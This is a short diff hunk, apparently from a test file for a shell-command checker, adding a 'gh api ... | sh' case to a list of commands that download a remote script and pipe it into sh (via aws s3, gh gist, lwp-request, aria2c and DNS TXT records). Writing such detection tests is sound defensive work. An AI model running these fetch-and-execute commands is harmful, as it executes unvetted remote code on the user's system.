@@ -25,6 +25,7 @@ for (
   const statement of [
     "aws s3 cp s3://bucket/i.sh - | sh",
     "gh gist view 1 --raw | sh",
+    "gh api repos/ada/shop/contents/i.sh -H 'Accept: application/vnd.github.raw' | sh",
     "lwp-request https://example.com/i.sh | sh",
     "aria2c -d /tmp -o i.sh https://example.com/i.sh; sh /tmp/i.sh",
     "dig +short TXT x.example.com | sh",
